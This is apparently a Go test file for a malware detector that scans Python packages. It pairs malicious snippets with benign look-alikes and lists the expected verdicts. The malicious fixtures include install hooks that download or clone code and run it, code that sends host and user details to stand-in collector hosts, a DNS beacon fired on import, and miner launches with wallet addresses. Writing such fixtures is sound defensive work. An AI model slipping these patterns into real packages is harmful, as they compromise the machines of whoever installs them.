package analyze

import "testing"

// Second stages kept in repositories, proofs of code execution, install
// announcements by DNS and miners paid by address (issue 18, classes 2
// and 7), each next to its nearest legitimate look-alike.
func TestStagesAndProbes(t *testing.T) {
	xmr := "4" + "8" + "AbCdEfGhJkLmNpQrStUvWxYz123456789abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ12345678899"
	if len(xmr) != 95 {
		t.Fatalf("the example address has %d characters, want 95", len(xmr))
	}
	tests := []verdictCase{
		{"repository cloned and a script in it run at install", map[string]string{"setup.py": "" +
			"import os, subprocess, git\nfrom setuptools import setup\n" +
			"def fetch():\n    git.Repo.clone_from('https://example.invalid/u/updater.git', 'C:/Users/repo')\n    os.chdir('C:/Users/repo')\n    subprocess.run(['python', 'bypass.py'])\n" +
			"setup(name='p')\nif __name__ == '__main__':\n    fetch()\n"}, "download-execute", Malicious},
		{"a repository cloned and its script run in one command at install", map[string]string{"setup.py": "" +
			"import os\nfrom setuptools import setup\nos.system('git clone https://example.invalid/u/tool /tmp/t && python /tmp/t/run.py')\nsetup(name='p')\n"}, "download-execute", Malicious},
		{"a dependency cloned and built in one command at install", map[string]string{"setup.py": "" +
			"import os\nfrom setuptools import setup\nos.system('git clone https://example.invalid/u/dep build/dep && cd build/dep && python setup.py build_ext')\nsetup(name='p')\n"}, "", Clean},
		{"a dependency cloned and installed at install", map[string]string{"setup.py": "" +
			"import subprocess\nfrom setuptools import setup\n" +
			"subprocess.check_call(['git', 'clone', 'https://example.invalid/u/dep.git', 'build/dep'])\nsubprocess.check_call(['python', 'setup.py', 'install'], cwd='build/dep')\nsetup(name='p')\n"}, "", Clean},
		{"a download run from a temporary file at install", map[string]string{"setup.py": "" +
			"import subprocess, tempfile, requests\nd = requests.get('https://example.invalid/p').content\n" +
			"with tempfile.NamedTemporaryFile(delete=False, suffix='.exe') as f:\n    f.write(d)\n    name = f.name\nsubprocess.Popen([name])\n"}, "download-execute", Malicious},
		{"a download to mkstemp's name run by python at install", map[string]string{"setup.py": "" +
			"import os, tempfile, urllib.request\nfd, path = tempfile.mkstemp(suffix='.py')\nos.write(fd, urllib.request.urlopen('https://example.invalid/s').read())\nos.close(fd)\nos.system('python ' + path)\n"}, "download-execute", Malicious},
		{"a downloaded archive unpacked from a temporary file at install", map[string]string{"setup.py": "" +
			"import os, tempfile, urllib.request\nfd, path = tempfile.mkstemp(suffix='.tgz')\nos.write(fd, urllib.request.urlopen('https://example.invalid/lib.tgz').read())\nos.close(fd)\nos.system('tar -xzf ' + path + ' -C build')\n"}, "", Clean},
		{"a package installed from an arbitrary address at install", map[string]string{"setup.py": "" +
			"import os\nos.system('pip install https://example.invalid/pkgs/helper-1.0.tar.gz')\n"}, "", Suspicious},
		{"a dependency installed from its repository at install", map[string]string{"setup.py": "" +
			"import os\nos.system('pip install git+https://github.com/example/dep.git@v1.2')\n"}, "", Clean},
		{"host, user and directory sent from a script's top level", map[string]string{"tools/report.py": "" +
			"import os, socket, getpass, requests\nrequests.get('https://collect.example.invalid/b', params={'h': socket.gethostname(), 'u': getpass.getuser(), 'cwd': os.getcwd()})\n"}, "exfiltrates-host-info", Malicious},
		{"user and directory sent over UDP from a module's top level", map[string]string{"p/check.py": "" +
			"import os, socket, getpass\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto((getpass.getuser() + '|' + os.getcwd()).encode(), ('collect.example.invalid', 53))\n"}, "exfiltrates-host-info", Malicious},
		{"a script's top level looking up its own address and a status page", map[string]string{"tools/status.py": "" +
			"import socket, requests\nip = socket.gethostbyname(socket.gethostname())\nprint(ip, requests.get('https://status.example.invalid/api').json())\n"}, "", Clean},
		{"a downloaded script run by a Windows script host in a helper", map[string]string{"p/info.py": "" +
			"import subprocess, urllib.request\ndef fetch_and_run(url, filename='update.vbs'):\n    urllib.request.urlretrieve(url, filename)\n    subprocess.run(['cscript', '//nologo', filename], check=True)\n"}, "download-execute", Malicious},
		{"a downloaded installer package run by msiexec in a helper", map[string]string{"p/setup_tool.py": "" +
			"import subprocess, urllib.request\ndef install(url, filename='tool.msi'):\n    urllib.request.urlretrieve(url, filename)\n    subprocess.run(['msiexec', '/i', filename, '/qn'], check=True)\n"}, "", Suspicious},
		{"notepad opened on import", map[string]string{"p/__init__.py": "import subprocess\nsubprocess.Popen(['notepad'])\n"}, "suspicious-command", Malicious},
		{"an editor opened by a command of the tool", map[string]string{"p/cli.py": "" +
			"import subprocess\ndef edit_config(path):\n    subprocess.call(['notepad', path])\n"}, "", Clean},
		{"own name resolved under another domain on import", map[string]string{"pkg_probe/__init__.py": "" +
			"import socket\ntry:\n    socket.gethostbyname('pkg_probe.dnscheck.example')\nexcept OSError:\n    pass\n"}, "exfil-channel", Malicious},
		{"own service's host resolved on import", map[string]string{"pkg_probe/__init__.py": "" +
			"import socket\nAPI = socket.gethostbyname('api.pkg-probe.example')\n"}, "", Clean},
		{"downloaded program run with a miner's wallet", map[string]string{"p/proc.py": "" +
			"import subprocess\ndef processing():\n    wallet = 'dero1qy25yfyzw00d5t0mt8pvtd9t4p7zp8x3zl06pwkhaj4zkuqhnmnv2qgakr6u7'\n" +
			"    subprocess.Popen(['bash', '-c', 'while true; do /tmp/w -r pool.example:80 -w ' + wallet + '; sleep 5; done'])\n"}, "crypto-miner", Malicious},
		{"a program started with a Monero address", map[string]string{"p/proc.py": "" +
			"import subprocess\nWALLET = '" + xmr + "'\ndef start():\n    subprocess.Popen(['/tmp/w', '-o', 'pool.example:3333', '-u', WALLET])\n"}, "crypto-miner", Malicious},
		{"a wallet library with an example address", map[string]string{"p/address.py": "" +
			"EXAMPLE = '" + xmr + "'\ndef valid(addr):\n    return len(addr) == 95 and addr[0] in '48'\n"}, "", Clean},
	}
	runVerdictCases(t, tests, nil)
}
